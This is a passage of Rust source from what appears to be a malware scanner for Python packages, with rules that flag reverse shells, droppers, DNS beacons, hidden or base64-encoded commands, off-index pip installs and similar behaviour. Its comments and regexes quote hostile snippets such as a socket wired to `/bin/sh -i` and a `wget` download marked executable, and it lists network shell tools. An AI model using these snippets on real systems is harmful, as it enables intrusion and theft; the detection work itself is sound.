/// files (`cp a b`, `touch x`, `curl -o f URL && tar xf f`): nothing of it starts a program
/// the command brought.
pub(crate) fn handles_files_only(command: &str) -> bool {
    let command = command_head(command);
    if command.contains("$(") || command.contains('`') {
        return false;
    }
    command
        .split(['|', ';', '&'])
        .map(str::trim)
        .filter(|step| !step.is_empty())
        .take(16)
        .all(|step| {
            matches!(
                program_name(step),
                "curl"
                    | "wget"
                    | "tar"
                    | "unzip"
                    | "gunzip"
                    | "gzip"
                    | "bunzip2"
                    | "xz"
                    | "mkdir"
                    | "rm"
                    | "mv"
                    | "cp"
                    | "cd"
                    | "echo"
                    | "ls"
                    | "touch"
                    | "sha256sum"
                    | "md5sum"
            )
        })
}

/// True when a command line fetches from a URL whose host is a public IP address (not
/// loopback, private or link-local: a test's own server).
fn fetches_from_bare_address(command: &str) -> bool {
    url_hosts(command).any(|host| {
        host.parse::<std::net::Ipv4Addr>().is_ok_and(|ip| {
            !(ip.is_loopback()
                || ip.is_private()
                || ip.is_link_local()
                || ip.is_unspecified()
                || ip.is_broadcast())
        })
    })
}

/// `wget -qO /tmp/x URL && chmod +x /tmp/x`: a binary fetched and made executable in one
/// command line. Installers pipe scripts to a shell; only droppers fetch an unnamed program and
/// mark it executable.
pub(crate) fn fetches_and_marks_executable(command: &str) -> bool {
    let command = command_head(command);
    static SAVE: LazyLock<Regex> = crate::static_regex!(
        r"(?i)\b(curl|wget)\b.*(\s-[a-z]*[oO]\b|--output|--output-document|>)"
    );
    static MARK: LazyLock<Regex> =
        crate::static_regex!(r"(?i)\bchmod\s+([0-7]*[1357][0-7]*|[ugoa]*\+[rw]*x)");
    SAVE.is_match(command) && MARK.is_match(command)
}

/// `dig @1.1.1.1 install.x.example`, `nslookup host`: a DNS query from install or import code
/// is a beacon telling its author where the package landed (the name can carry data).
fn is_dns_lookup(command: &str) -> bool {
    static DNS: LazyLock<Regex> = crate::static_regex!(r"(?i)^\s*(dig|nslookup|host)(\.exe)?\s+\S");
    DNS.is_match(command)
}

/// A command that starts a program file the package dropped or fetched: a Windows executable
/// or script, or a script under /tmp.
fn starts_dropped_file(command: &str) -> bool {
    static DROPPED: LazyLock<Regex> = crate::static_regex!(
        r#"(?ix)
        (^|[\s"'/\\])[^\s"']+\.(exe|vbs|vbe|bat|cmd|ps1|scr|hta|pyw)(\s|"|'|$)
        | ^\s*(ba|z)?sh\s+["']?/tmp/ | ^\s*["']?/tmp/\S+
        | (^|[;&|]\s*)(python[0-9.]*|perl|node)\s+["']?/tmp/\S+
        "#
    );
    DROPPED.is_match(command)
}

/// `..\\nmake-dll.bat X86`, `scripts\\build.cmd`: a batch file named by a path relative to
/// the working folder, run with plain arguments: nothing chained, redirected, expanded from
/// the environment or started detached.
fn runs_source_tree_script(command: &str) -> bool {
    static TREE_SCRIPT: LazyLock<Regex> =
        crate::static_regex!(r"(?i)^(\.{1,2}[\\/])*([a-z0-9_.-]+[\\/])*[a-z0-9_.-]+\.(bat|cmd)$");
    let command = command.trim();
    let (program, arguments) = command
        .split_once(char::is_whitespace)
        .unwrap_or((command, ""));
    TREE_SCRIPT.is_match(program)
        && !arguments.contains(['&', '|', ';', '<', '>', '%', '$', '`', '^'])
        && !is_shell_trick(arguments)
        && !starts_dropped_file(arguments)
}

/// `… >/dev/null 2>&1`, `&>/dev/null`, `> NUL`: both output streams thrown away.
fn discards_output(command: &str) -> bool {
    static QUIET: LazyLock<Regex> = crate::static_regex!(
        r"(?i)(>\s*/dev/null\s+2>&1|&>\s*/dev/null|2>&1\s*>\s*/dev/null|>\s*nul\s+2>&1)"
    );
    QUIET.is_match(command)
}

/// `pythonw …`, `start /b python …`: a second interpreter started without a console window.
fn starts_hidden_interpreter(command: &str) -> bool {
    static HIDDEN: LazyLock<Regex> =
        crate::static_regex!(r"(?i)(^|[\s/\\])pythonw(\.exe)?(\s|$)|\bstart\s+/b\s+\S*python");
    HIDDEN.is_match(command)
}

/// `python -c ...`, `pythonw x.pyw`: a command that starts another Python interpreter.
fn starts_interpreter(command: &str) -> bool {
    static INTERPRETER: LazyLock<Regex> = crate::static_regex!(
        r"(?i)(^|[\s/\\])(python[0-9.]*|pythonw|py)(\.exe)?\s+(-c\s|\S+\.pyw?\b)"
    );
    INTERPRETER.is_match(command) && !command.contains(" -m pip")
}

/// True when a command line hides, persists or hands over to another interpreter.
pub fn is_shell_trick(command: &str) -> bool {
    SHELL_TRICK_COMMAND.is_match(command) && !runs_installed_windows_tool(command)
}

/// `C:\Program Files (x86)\Microsoft Visual Studio\Installer\vswhere.exe -latest …`: a program
/// an installer put under Program Files or the Windows folder, started by its full path and
/// with no other trick in the line. Build scripts locate compilers that way; a payload is
/// dropped where the user can write.
fn runs_installed_windows_tool(command: &str) -> bool {
    static INSTALLED: LazyLock<Regex> = crate::static_regex!(
        r#"(?i)^\s*["']?(c:\\(program files( \(x86\))?|windows\\system32)\\|%(programfiles(\(x86\))?|systemroot|windir)%\\)[^"'&|;<>]*\.exe["']?(\s[^&|;<>]*)?$"#
    );
    static OTHER_TRICK: LazyLock<Regex> = crate::static_regex!(
        r"(?i)\b(powershell|pwsh|rundll32|regsvr32|mshta|wscript|cscript|schtasks|cmd(\.exe)?\s+/c)\b"
    );
    INSTALLED.is_match(command) && !OTHER_TRICK.is_match(command)
}

/// `SimpleXMLRPCServer(…).register_function(os.system, 'run')`: a process-starting (or code
/// running) callable published as a remote procedure is a shell for whoever connects. RPC
/// services publish their own functions; none hands out `os.system` or `exec` itself.
fn check_served_procedure(checker: &mut Checker, call: &ExprCall, qualname: &str) {
    let rpc_server = ["xmlrpc", "XMLRPC", "jsonrpc", "JSONRPC", "rpyc", "zerorpc"]
        .iter()
        .any(|marker| qualname.contains(marker));
    if !rpc_server {
        return;
    }
    let Some(served) = call
        .arguments
        .args
        .first()
        .or_else(|| super::keyword(call, "function"))
        .and_then(|f| checker.scopes.qualname(f))
    else {
        return;
    };
    if !(is_spawn(&served) || super::dynamic_exec::is_exec(&served)) {
        return;
    }
    let name = call
        .arguments
        .args
        .get(1)
        .or_else(|| super::keyword(call, "name"))
        .and_then(|n| checker.scopes.fold_str(n))
        .map_or_else(String::new, |n| {
            format!(" as `{}`", crate::text::shorten(&n, 40))
        });
    let context = checker.context();
    let severity = match context {
        ExecContext::TestOrDocs => 0.2,
        _ => 0.85,
    };
    checker.report(
        &RULE,
        call.range(),
        format!(
            "publishes {served}{name} as a remote procedure: whoever reaches the server runs commands {}",
            context.phrase()
        ),
        severity,
        vec!["remote-shell", "served-procedure"],
    );
}

/// `os.dup2(sock.fileno(), 0)`: a socket wired to the standard streams is a reverse shell.
fn check_reverse_shell(checker: &mut Checker, call: &ExprCall) {
    let Some(first) = call.arguments.args.first() else {
        return;
    };
    let source = checker
        .text
        .get(first.range().start().to_usize()..first.range().end().to_usize())
        .unwrap_or("");
    let from_socket = checker
        .qualname(first)
        .is_some_and(|q| q.starts_with("socket.") || q.contains("socket()"));
    if !(source.contains("fileno")
        && (from_socket
            || call.arguments.args.get(1).is_some_and(|fd| {
                matches!(checker.fold(fd), Some(crate::fold::Value::Int(0..=2)))
            })))
    {
        return;
    }
    // `os.dup2(stdout.fileno(), 1)` with `stdout = tempfile.SpooledTemporaryFile()`: a file
    // the code made stands in for the stream (capturing output), no socket.
    if let Expr::Call(fileno) = first
        && let Expr::Attribute(method) = &*fileno.func
        && method.attr.as_str() == "fileno"
        && checker.qualname(&method.value).is_some_and(|q| {
            [
                "tempfile.",
                "io.",
                "open",
                "sys.",
                "os.open",
                "os.fdopen",
                "pathlib.",
            ]
            .iter()
            .any(|known| q.starts_with(known))
        })
    {
        return;
    }
    // `child, parent = socketpair()`: both ends are this machine's, the pipes a supervisor
    // gives the child it forks. A reverse shell's socket reaches another host.
    if let Some(name) = source.strip_suffix(".fileno()")
        && is_socketpair_end(checker.text, name)
    {
        return;
    }
    report_socket_wired_to_streams(checker, call, "os.dup2");
}

/// True when the file binds `name` (a plain identifier) to one end of a `socketpair()`:
/// `name, other = socketpair()` or `other, name = socket.socketpair()`.
fn is_socketpair_end(text: &str, name: &str) -> bool {
    if name.is_empty()
        || name.len() > 64
        || !name.chars().all(|c| c.is_ascii_alphanumeric() || c == '_')
    {
        return false;
    }
    if memchr::memmem::find(text.as_bytes(), b"socketpair(").is_none() {
        return false;
    }
    let pattern =
        format!(r"(?m)^\s*\(?\s*(\w+\s*,\s*)?{name}\s*(,\s*\w+\s*)?\)?\s*=\s*(\w+\.)?socketpair\(");
    regex::Regex::new(&pattern).is_ok_and(|binding| binding.is_match(text))
}

/// `Popen(['/bin/sh', '-i'], stdin=s.fileno(), stdout=s.fileno())`: the child's standard
/// streams are a socket, as `os.dup2` makes them.
fn check_streams_from_socket(checker: &mut Checker, call: &ExprCall, qualname: &str) {
    let from_socket = |value: &Expr| {
        let socket = match value {
            Expr::Call(fileno) => match &*fileno.func {
                Expr::Attribute(method) if method.attr.as_str() == "fileno" => &*method.value,
                _ => return false,
            },
            other => other,
        };
        checker.qualname(socket).is_some_and(|q| {
            q.starts_with("socket.socket()")
                || q.starts_with("socket.create_connection()")
                || q.contains("accept()")
        })
    };
    let wired = ["stdin", "stdout", "stderr"]
        .iter()
        .filter_map(|stream| super::keyword(call, stream))
        .any(from_socket);
    if wired {
        report_socket_wired_to_streams(checker, call, qualname);
    }
}

/// Reports a socket wired to a program's standard streams by `how`.
fn report_socket_wired_to_streams(checker: &mut Checker, call: &ExprCall, how: &str) {
    // A reverse shell connects out and hands the socket to a shell; a bind shell accepts and
    // does the same. Without a shell or an outward connection anywhere in the file it is a
    // worker pool or test server wiring a client to a child (pyspark's daemon).
    let text = checker.text.as_bytes();
    let shell_or_connect = REVERSE_SHELL_HINTS
        .iter()
        .any(|hint| memchr::memmem::find(text, hint.as_bytes()).is_some());
    let test = checker.context() == ExecContext::TestOrDocs;
    let message = if shell_or_connect {
        format!("{how} wires a socket to the standard streams: a reverse shell")
    } else {
        format!(
            "{how} wires a socket to the standard streams (no shell or outward connection in the file)"
        )
    };
    let severity = match (shell_or_connect, test) {
        (true, false) => 0.85,
        (true, true) => 0.3,
        (false, false) => 0.2,
        (false, true) => 0.05,
    };
    checker.report(
        &RULE,
        call.range(),
        message,
        severity,
        vec!["spawn", "reverse-shell"],
    );
}

/// What a file that turns a socket into a remote shell also holds: a shell to run (spelled
/// out: a CGI server also dup2s a request socket before it execs the script it serves), a
/// pseudo-terminal, or an outward connection.
const REVERSE_SHELL_HINTS: &[&str] = &[
    "connect(",
    "create_connection",
    "pty.",
    "import pty",
    "/bin/",
    "bash",
    "cmd.exe",
    "powershell",
    "'sh'",
    "\"sh\"",
];

/// Process-spawning calls.
pub fn check_call(checker: &mut Checker, call: &ExprCall, qualname: &str) {
    if qualname == "os.dup2" {
        check_reverse_shell(checker, call);
        return;
    }
    if qualname.ends_with(".register_function") {
        check_served_procedure(checker, call, qualname);
        return;
    }
    // `pydoc.pipepager(text, 'sh')` pipes the text into the pager command: given a shell for
    // a pager, the text is a script the shell runs.
    if matches!(qualname, "pydoc.pipepager" | "pydoc.pipe_pager") {
        let shell = call
            .arguments
            .args
            .get(1)
            .or_else(|| super::keyword(call, "cmd"))
            .and_then(|pager| checker.fold(pager))
            .and_then(|pager| pager.as_text())
            .is_some_and(|pager| {
                matches!(
                    program_name(&pager),
                    "sh" | "bash" | "zsh" | "dash" | "ksh" | "python" | "python3"
                )
            });
        if !shell {
            return;
        }
    } else if !is_spawn(qualname) {
        return;
    }
    check_streams_from_socket(checker, call, qualname);
    let context = checker.context();
    // `os.execv('/bin/sh', ['sh', '-c', cmd])`: the exec and spawn families name the program
    // first and pass the command line separately, as a list or as the remaining arguments.
    let args = &call.arguments.args;
    let spread_argv;
    let command_arg = match argv_position(qualname) {
        Some(Argv::List(at)) => args.get(at),
        Some(argv @ (Argv::Spread(at) | Argv::ProgramAndParameters(at))) => {
            let count = if matches!(argv, Argv::Spread(_)) {
                64
            } else {
                2
            };
            spread_argv = ruff_python_ast::Expr::List(ruff_python_ast::ExprList {
                node_index: ruff_python_ast::AtomicNodeIndex::default(),
                range: call.range(),
                elts: args
                    .get(at..)
                    .unwrap_or_default()
                    .iter()
                    .take(count)
                    .filter(|arg| !arg.is_none_literal_expr())
                    .cloned()
                    .collect(),
                ctx: ruff_python_ast::ExprContext::Load,
            });
            Some(&spread_argv)
        }
        None => args.first(),
    }
    .or_else(|| super::keyword(call, "args"));
    let command = command_arg.and_then(|arg| super::command_text(checker, arg));
    let partial = command_arg.and_then(|arg| super::partial_command_text(checker, arg));
    let (command, partial) = if is_pip_main(qualname) {
        let as_command = |arguments: String| format!("pip {arguments}");
        (command.map(as_command), partial.map(as_command))
    } else {
        (command, partial)
    };
    let shown = super::argument_text(checker, call);
    // What the command is known to say: all of it, or its constant parts.
    let known = command.as_ref().or(partial.as_ref());
    checker.note_program(known.unwrap_or(&shown));
    check_hidden_window(checker, call, qualname, context);
    check_silenced_interpreter(checker, call, qualname, context);
    let inline = push_inline_program(checker, call, command_arg, known.map(String::as_str));
    // Python handed to `-c` is analysed as a layer of its own: as shell text its messages and
    // pipes (`print('pip install x failed')`, `2>&1` in a comment) are no commands.
    let (command, partial) = match inline {
        Some(code) => {
            let mask = |text: String| text.replace(&code, "<python code>");
            (command.map(mask), partial.map(mask))
        }
        None => (command, partial),
    };
    let known = command.as_ref().or(partial.as_ref());
    check_runs_saved_file(
        checker,
        call,
        qualname,
        known.unwrap_or(&shown),
        command_arg,
        context,
    );
    check_runs_package_script(checker, call, known.unwrap_or(&shown), context);
    let evasion = known.filter(|text| {
        disables_defenses(text)
            || (kills_processes(text) && names_security_process(checker.module_text()))
    });
    let takeover = known.filter(|text| takes_over_machine(text));
    let mining = known.and_then(|text| miner_paying_wallet(text).map(|coin| (text, coin)));
    let unlocked = known.filter(|text| opens_locks(text));
    let shipped = known.and_then(|text| ships_credential_store(text).map(|store| (text, store)));
    let lookalike = known.and_then(|text| pip_install_lookalike(text).map(|found| (text, found)));
    let off_index = known.and_then(|text| {
        pip_install_off_index(text)
            .map(|host| (text, format!("{host}, outside any package index")))
            .or_else(|| {
                pip_install_untrusted_index(text)
                    .map(|host| (text, format!("the ad-hoc index at {host}")))
            })
    });
    let from_vcs = known.and_then(|text| pip_install_from_vcs(text).map(|url| (text, url)));
    let repointed = known.filter(|text| pip_config_sets_index(text));
    let (severity, tags, message) = match (&command, &partial) {
        _ if let Some(text) = repointed => (
            // The command form of writing pip.conf (file_drop's pip-config): every later
            // install of the machine fetches from the index it names.
            match context {
                ExecContext::Install | ExecContext::Import => 0.75,
                ExecContext::Runtime => 0.15,
                ExecContext::TestOrDocs => 0.05,
            },
            vec!["spawn", "persistence", "pip-config"],
            format!(
                "{qualname} runs `{}`, which sets the index every later pip install fetches from",
                crate::text::shorten(text, 160)
            ),
        ),
        _ if let Some((text, host)) = off_index => (
            // What pip fetches from an arbitrary server is unvetted code that runs at once;
            // loading code has no business installing it.
            match context {
                ExecContext::Install | ExecContext::Import => 0.75,
                ExecContext::Runtime => 0.3,
                ExecContext::TestOrDocs => 0.05,
            },
            vec!["spawn", "pip-install", "off-index-install"],
            format!(
                "{qualname} runs `{}`, which installs a package from {host}",
                crate::text::shorten(text, 160)
            ),
        ),
        _ if let Some((text, url)) = from_vcs => (
            // Loading code that installs a repository's current state runs whatever its owner
            // pushed last; releases pin their dependencies in metadata instead. Doing it with
            // pip's output kept from the user hides that anything was installed at all.
            match context {
                ExecContext::Install | ExecContext::Import
                    if output_kept_from_user(checker, call) =>
                {
                    0.75
                }
                ExecContext::Install | ExecContext::Import => 0.6,
                ExecContext::Runtime => 0.2,
                ExecContext::TestOrDocs => 0.03,
            },
            vec!["spawn", "pip-install", "vcs-install"],
            format!(
                "{qualname} runs `{}`, which installs the current state of {url}, code no package index has seen",
                crate::text::shorten(text, 160)
            ),
        ),
        _ if let Some((text, (name, target))) = lookalike => (
            // A payload one `pip install` away, under a name a reviewer reads as a popular
            // project; releases declare their real dependencies in metadata.
            match context {
                ExecContext::Install | ExecContext::Import => 0.75,
                ExecContext::Runtime => 0.3,
                ExecContext::TestOrDocs => 0.05,
            },
            vec!["spawn", "pip-install", "lookalike-install"],
            format!(
                "{qualname} runs `{}`, which installs `{name}`, a name imitating the popular project `{target}`",
                crate::text::shorten(text, 160)
            ),
        ),
        _ if let Some((text, (label, path))) = shipped => (
            // Copying a key or credentials file to another machine is the theft itself.
            match context {
                ExecContext::Install | ExecContext::Import => 0.92,
                ExecContext::Runtime => 0.6,
                ExecContext::TestOrDocs => 0.1,
            },
            vec!["spawn", "ships-credentials"],
            format!(
                "{qualname} runs `{}`, which sends the {label} `{}` to another machine",
                crate::text::shorten(text, 160),
                crate::text::shorten(&path, 60)
            ),
        ),
        _ if let Some(text) = evasion => (
            // Only malware needs the antivirus or the firewall out of its way.
            match context {
                ExecContext::Install | ExecContext::Import => 0.92,
                ExecContext::Runtime => 0.8,
                ExecContext::TestOrDocs => 0.2,
            },
            vec!["spawn", "defense-evasion"],
            format!(
                "{qualname} runs `{}`, which disables or blinds the machine's defences",
                crate::text::shorten(text, 160)
            ),
        ),
        _ if let Some((text, coin)) = mining => (
            // Mining for a wallet written into the code spends the user's machine for the
            // author, whenever it runs; a mining front-end takes the wallet from its user.
            match context {
                ExecContext::Install | ExecContext::Import => 0.92,
                ExecContext::Runtime => 0.75,
                ExecContext::TestOrDocs => 0.2,
            },
            vec!["spawn", "shell-dropper", "cryptominer"],
            format!(
                "{qualname} runs `{}`, a cryptocurrency miner paying a {coin} wallet written into the code",
                crate::text::shorten(text, 160)
            ),
        ),
        _ if let Some(text) = takeover => (
            match context {
                ExecContext::Install | ExecContext::Import => 0.92,
                ExecContext::Runtime => 0.8,
                ExecContext::TestOrDocs => 0.2,
            },
            vec!["spawn", "machine-takeover"],
            format!(
                "{qualname} runs `{}`, which adds an administrator or dumps the machine's account secrets",
                crate::text::shorten(text, 160)
            ),
        ),
        _ if let Some(text) = unlocked => (
            // Firewall and SELinux tools do this when their user asks; loading code never.
            match context {
                ExecContext::Install | ExecContext::Import => 0.85,
                ExecContext::Runtime => 0.25,
                ExecContext::TestOrDocs => 0.05,
            },
            vec!["spawn", "defense-evasion"],
            format!(
                "{qualname} runs `{}`, which opens the machine's firewall, SELinux, SSH or UAC locks",
                crate::text::shorten(text, 160)
            ),
        ),
        (None, Some(partial)) if is_dangerous_command(partial) || is_shell_trick(partial) => (
            match context {
                ExecContext::Install | ExecContext::Import => {
                    if is_dangerous_command(partial) {
                        0.85
                    } else if starts_hidden_interpreter(partial) {
                        // `start pythonw.exe <temp file>` while loading: a windowless second
                        // interpreter on code the package computed.
                        0.7
                    } else {
                        0.5
                    }
                }
                ExecContext::Runtime => {
                    if fetches_and_marks_executable(partial) {
                        0.75
                    } else if is_plain_fetch(partial) {
                        0.2
                    } else if is_dangerous_command(partial) {
                        0.5
                    } else {
                        0.1
                    }
                }
                ExecContext::TestOrDocs => 0.1,
            },
            if is_plain_fetch(partial) {
                vec!["spawn", "shell-dropper", "plain-fetch"]
            } else if is_dangerous_command(partial) {
                vec!["spawn", "shell-dropper"]
            } else {
                vec!["spawn", "shell-trick"]
            },
            format!(
                "{qualname} runs `{}`{}",
                crate::text::shorten(partial, 160),
                if partial.contains(crate::fold::UNKNOWN) {
                    " (… = computed at run time)"
                } else if command_arg
                    .is_some_and(|arg| super::environment_default(checker, arg).is_some())
                {
                    " (the default of an environment variable)"
                } else {
                    ""
                }
            ),
        ),
        _ => classify_command(command.as_ref(), qualname, context, &shown),
    };
    let mut tags = tags;
    if is_vcs_query(known.unwrap_or(&shown)) {
        tags.push("vcs-query");
    }
    if is_tool_probe(known.unwrap_or(&shown)) {
        tags.push("tool-probe");
    }
    if !FETCH_TOOL.is_match(known.unwrap_or(&shown)) && handles_files_only(known.unwrap_or(&shown))
    {
        tags.push("file-tool");
    }
    checker.report(&RULE, call.range(), message, severity, tags);
    let text = known.unwrap_or(&shown).clone();
    let sink = if network_tool(&text).is_some() {
        super::network::check_tool_call(checker, call, &text);
        super::data_flow::SinkKind::Network
    } else {
        super::data_flow::SinkKind::Process
    };
    super::data_flow::check_sink(checker, call, sink);
    check_hidden_command(checker, call, command_arg, &text, context);
}

/// `git rev-parse HEAD`, `["git", "describe", "--tags"]`: a query of the project's own
/// repository, as setup scripts make to compute their version. It reads; it runs nothing it
/// was given, so it is no second stage's start.
pub fn is_vcs_query(command: &str) -> bool {
    static QUERY: LazyLock<Regex> = crate::static_regex!(
        r#"(?i)^\s*[\[(]?\s*["']?(git|hg)(\.exe)?["']?\s*,?\s*["']?(rev-parse|describe|tag|log|merge-base|status|branch|show|rev-list|ls-files|ls-remote|diff|id|identify|summary)["']?(\s|,|[\])]|$)"#
    );
    QUERY.is_match(command_head(command))
        && !command.contains([';', '&', '|', '`'])
        && !command.contains("$(")
}

/// `hipcc --version`, `rocm-smi -i`, `rocminfo`, `nvidia-smi --query-gpu=name`: an installed
/// program given only options, which is how build and device code finds its toolchain and
/// hardware. With no operand it has nothing to start but itself, so it is no second stage's
/// run. Shells, interpreters and launchers are left out: `bash -i` or `python -` run whatever
/// arrives on their standard input.
pub fn is_tool_probe(command: &str) -> bool {
    if command.contains([';', '&', '|', '`', '>', '<']) || command.contains("$(") {
        return false;
    }
    let mut words = command
        .split(|c: char| c.is_whitespace() || matches!(c, ',' | '[' | ']' | '"' | '\''))
        .filter(|w| !w.is_empty());
    let Some(program) = words.next() else {
        return false;
    };
    let arguments: Vec<&str> = words.take(9).collect();
    // A program on the system's path, not one the package dropped somewhere writable.
    let installed = !program.contains(['/', '\\'])
        || ["/usr/", "/opt/", "/bin/"]
            .iter()
            .any(|prefix| program.starts_with(prefix));
    let name = program_stem(program.rsplit(['/', '\\']).next().unwrap_or(program));
    let launcher = is_launcher(&name);
    let asks_version = arguments.iter().any(|a| {
        let a = a.to_ascii_lowercase();
        a.contains("version") || a == "-v" || a == "--help" || a == "-h"
    });
    installed
        && !program.starts_with('-')
        && arguments.len() <= 8
        && arguments.iter().all(|a| a.starts_with('-'))
        && (asks_version
            || !launcher
                && name
                    .chars()
                    .all(|c| c.is_ascii_alphanumeric() || c == '-' || c == '_'))
}

/// A program's file name as [`LAUNCHERS`] lists it: lower-case, without `.exe`.
fn program_stem(file_name: &str) -> String {
    file_name
        .strip_suffix(".exe")
        .unwrap_or(file_name)
        .to_ascii_lowercase()
}

/// True for a shell, interpreter or launcher (lower-case program name, no `.exe`): a program
/// that runs what it is given.
fn is_launcher(name: &str) -> bool {
    LAUNCHERS.contains(&name)
        || ["python", "pypy", "perl", "ruby", "php"]
            .iter()
            .any(|interpreter| name.starts_with(interpreter))
}

/// `["sed", "-i", f"s/…/{name}/", "pyproject.toml"]`: the program of an argument list written
/// as a literal, when it is an installed tool that neither runs what it is given nor talks to
/// the network. Its computed arguments are file names and options, as build scripts pass to
/// `patchelf`, `strip` or `install_name_tool`.
fn fixed_tool_of_list(shown: &str) -> Option<&str> {
    let rest = shown.trim_start().strip_prefix(['[', '('])?.trim_start();
    let quote = rest.chars().next().filter(|c| matches!(c, '"' | '\''))?;
    let rest = rest.get(1..)?;
    let program = rest.get(..rest.find(quote)?)?;
    let name = program_stem(program);
    let plain = !program.is_empty()
        && program
            .chars()
            .all(|c| c.is_ascii_alphanumeric() || matches!(c, '-' | '_' | '.'));
    (plain && !is_launcher(&name) && network_tool(program).is_none()).then_some(program)
}

/// Programs that run what they are given or what they read: with options alone they can still
/// start a fetched payload (`bash -i` wired to a socket, `msiexec /i` of a URL).
const LAUNCHERS: &[&str] = &[
    "sh",
    "bash",
    "zsh",
    "dash",
    "ksh",
    "csh",
    "tcsh",
    "fish",
    "busybox",
    "cmd",
    "powershell",
    "pwsh",
    "node",
    "deno",
    "bun",
    "lua",
    "osascript",
    "wscript",
    "cscript",
    "mshta",
    "rundll32",
    "regsvr32",
    "msiexec",
    "start",
    "open",
    "xdg-open",
    "nohup",
    "setsid",
    "env",
    "sudo",
    "su",
    "doas",
    "pkexec",
    "xargs",
    "exec",
    "eval",
    "source",
    "at",
    "crontab",
    "schtasks",
    "launchctl",
    "systemctl",
    "nc",
    "ncat",
    "socat",
    "telnet",
    "ssh",
];

/// `curl`, `wget`, `nc` and PowerShell's web cmdlets as the program a command runs: what they
/// are given goes over the network, like the arguments of `requests.post`.
pub fn network_tool(command: &str) -> Option<&'static str> {
    static HEAD: LazyLock<Regex> = crate::static_regex!(
        r"(?i)(^|[\s;&|(/\\])(curl|wget|nc|ncat|invoke-webrequest|invoke-restmethod|iwr|irm)(\.exe)?(\s|$)"
    );
    static GIT_CLONE: LazyLock<Regex> =
        crate::static_regex!(r"(?i)(^|[\s;&|(/\\])git(\.exe)?\s+clone\s");
    // `git push https://…`: the repository's contents, whatever was copied into it, go to the
    // server the command names. (`git push --tags` to the project's own remote is how the
    // popular `setup.py upload` template releases.)
    static GIT_PUSH: LazyLock<Regex> = crate::static_regex!(
        r"(?i)(^|[\s;&|(/\\])git(\.exe)?\s+(-c\s+\S+\s+)*push\s+(-\S+\s+)*(\w+://|[\w.-]+@[\w.-]+:)"
    );
    if GIT_CLONE.is_match(command) {
        return Some("git clone");
    }
    if GIT_PUSH.is_match(command) {
        return Some("git push");
    }
    // `curl --version`, `wget -h`: a probe for the tool, which contacts nothing.
    static PROBE: LazyLock<Regex> =
        crate::static_regex!(r"(?i)^\s*\S*(curl|wget)(\.exe)?\s+(--version|-V|--help|-h)\s*$");
    if PROBE.is_match(command) {
        return None;
    }
    let captures = HEAD.captures(command)?;
    Some(
        match captures.get(2)?.as_str().to_ascii_lowercase().as_str() {
            "curl" => "curl",
            "wget" => "wget",
            "nc" | "ncat" => "netcat",
            _ => "PowerShell",
        },
    )
}

/// A command the code decodes before running it. Build scripts spell their commands out;
/// base64 around `os.system`'s argument hides what runs from whoever reviews the package.
fn check_hidden_command(
    checker: &mut Checker,
    call: &ExprCall,
    command_arg: Option<&ruff_python_ast::Expr>,
    command: &str,
    context: ExecContext,
) {
    let Some(arg) = command_arg else {
        return;
    };
    let Some(decoder) = super::dynamic_exec::contains_decoding(checker, arg) else {
        return;
    };
    // Decoded from data the code received (an API's token), not from a constant it carries:
    // unpacked, not hidden. What the data came from is weighed by the data-flow rule.
    if checker.holds_received_decoding(arg)
        || super::partial_command_text(checker, arg)
            .as_deref()
            .is_some_and(decodes_only_runtime_arguments)
    {
        return;
    }
    // Installers spell out their `curl … | sh`; one decoded from base64 first is hidden from
    // the very reviewer who would object to it, whoever calls the function.
    let payload = is_dangerous_command(command) || fetches_and_marks_executable(command);
    let severity = match (context, payload) {
        (ExecContext::Install | ExecContext::Import, true) => 0.9,
        (ExecContext::Install | ExecContext::Import, false) => 0.6,
        (ExecContext::Runtime, true) => 0.75,
        (ExecContext::Runtime, false) => 0.35,
        (ExecContext::TestOrDocs, true) => 0.2,
        (ExecContext::TestOrDocs, false) => 0.1,
    };
    checker.report(
        &RULE,
        call.range(),
        format!(
            "runs `{}`, a command hidden with {decoder}",
            crate::text::shorten(command, 120)
        ),
        severity,
        vec!["spawn", "hidden-command", "obfuscation"],
    );
}

/// `["docker", "login", "-u", user, "-p", password, registry]` with the credentials decoded
/// from a token an API returned: the program is in plain sight, a tool that neither runs what
/// it is given nor talks to the network for it, and only arguments folding cannot read were
/// decoded. A command hidden from its reviewer folds to its decoded text (folding decodes
/// constants) or starts a launcher.
fn decodes_only_runtime_arguments(command: &str) -> bool {
    let program = command.split_whitespace().next().unwrap_or("");
    let name = program_stem(program.rsplit('/').next().unwrap_or(program));
    command.contains(crate::fold::UNKNOWN)
        && !program.contains(crate::fold::UNKNOWN)
        && !program.is_empty()
        && program
            .chars()
            .all(|c| c.is_ascii_alphanumeric() || matches!(c, '-' | '_' | '.' | '/'))
        && !is_launcher(&name)
        && network_tool(program).is_none()
        && !is_shell_trick(command)
        && !is_dangerous_command(command)
}

/// `creationflags=CREATE_NO_WINDOW` or `DETACHED_PROCESS`: a process the user must not see.
/// `Popen([sys.executable, path, blob], stdout=DEVNULL, stderr=DEVNULL)`: a second Python
/// interpreter on a script chosen at run time, every line of its output thrown away. Launchers of
/// modules (`-m`) and inline code (`-c`) are not this; a downloaded second stage started in the
/// background is.
fn check_silenced_interpreter(
    checker: &mut Checker,
    call: &ExprCall,
    qualname: &str,
    context: ExecContext,
) {
    use ruff_python_ast::Expr;
    let Some(
        Expr::List(ruff_python_ast::ExprList { elts, .. })
        | Expr::Tuple(ruff_python_ast::ExprTuple { elts, .. }),
    ) = call.arguments.args.first()
    else {
        return;
    };
    let (Some(program), Some(script)) = (elts.first(), elts.get(1)) else {
        return;
    };
    let interpreter = is_interpreter(checker, program);
    // A constant script is one the package names; `-m`/`-c` run modules or inline code.
    let computed_script = checker.fold(script).is_none();
    let devnull = ["subprocess.DEVNULL", "os.devnull"];
    if !(interpreter
        && computed_script
        && stream_sent_to(checker, call, "stdout", &devnull)
        && stream_sent_to(checker, call, "stderr", &devnull))
    {
        return;
    }
    let severity = match context {
        ExecContext::Install | ExecContext::Import => 0.7,
        ExecContext::Runtime => 0.35,
        ExecContext::TestOrDocs => 0.03,
    };
    checker.report(
        &RULE,
        call.range(),
        format!(
            "{qualname} starts a second Python interpreter on a script chosen at run time, with its output discarded {}",
            context.phrase()
        ),
        severity,
        vec!["spawn", "silent-interpreter"],
    );
}

fn check_hidden_window(
    checker: &mut Checker,
    call: &ExprCall,
    qualname: &str,
    context: ExecContext,
) {
    let Some(flags) =
        super::keyword(call, "creationflags").or_else(|| super::keyword(call, "startupinfo"))
    else {
        return;
    };
    let text = checker
        .text
        .get(flags.range().start().to_usize()..flags.range().end().to_usize())
        .unwrap_or("");
    if ![
        "CREATE_NO_WINDOW",
